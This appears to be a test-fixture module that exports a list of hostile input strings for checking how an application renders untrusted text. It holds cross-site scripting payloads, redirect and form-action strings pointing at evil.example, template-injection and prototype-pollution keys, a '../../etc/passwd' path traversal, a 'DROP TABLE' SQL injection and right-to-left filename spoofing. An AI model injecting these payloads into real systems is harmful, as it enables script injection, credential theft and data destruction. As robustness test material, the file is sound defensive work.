/** Contents that would like to be something else than text. */

const LETTERS = 'a'.repeat(10_000)
const MARKUP = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<svg/onload=window.hacked=1>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '"><script>window.hacked=1</script>',
  "'onmouseover='window.hacked=1'",
  '</p></article></main><h1>gone</h1>',
  '<style>*{display:none!important}</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<a href="javascript:window.hacked=1">x</a>',
  'javascript:window.hacked=1',
  '&lt;b&gt; &amp; &#60;script&#62;',
  '<!-- <script> -->',
  '{{constructor.constructor("window.hacked=1")()}}',
  `$${'{window.hacked=1}'}`,
  ']]><![CDATA[',
  '<textarea></textarea><form action="//evil.example"><button>',
]
const OBJECTS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '{}',
  '[]',
  '0',
  '-1',
]
const SHAPES = [
  LETTERS,
  `https://example.com/${'path/'.repeat(400)}`,
  'W'.repeat(300),
  '－'.repeat(400),
  `${'\u00a0'.repeat(300)}x`,
  `${'line\n'.repeat(60)}end`,
  '\t\t\ttabs',
  '👩‍👩‍👧‍👦'.repeat(60),
  '🏳️‍🌈🇩🇪👍🏽',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘'.repeat(10),
  `e${'\u0301'.repeat(500)}`,
]
const DIRECTIONS = [
  '\u202egnp.exe',
  '\u202e\u202d\u2066 never closed',
  'שלום עולם',
  'مرحبا abc 123 عالم',
  '\u2067right\u2069 to \u2068left',
  '\u200f\u200e\u061c',
]
const ODD = [
  '\u0000\u0001\u001b[31mred',
  '\ufeffbom',
  '\u200b\u200b\u200b',
  '\ufffd\uffff',
  '../../etc/passwd',
  "'; DROP TABLE messages; --",
]

export const HOSTILE = [...MARKUP, ...OBJECTS, ...SHAPES, ...DIRECTIONS, ...ODD]
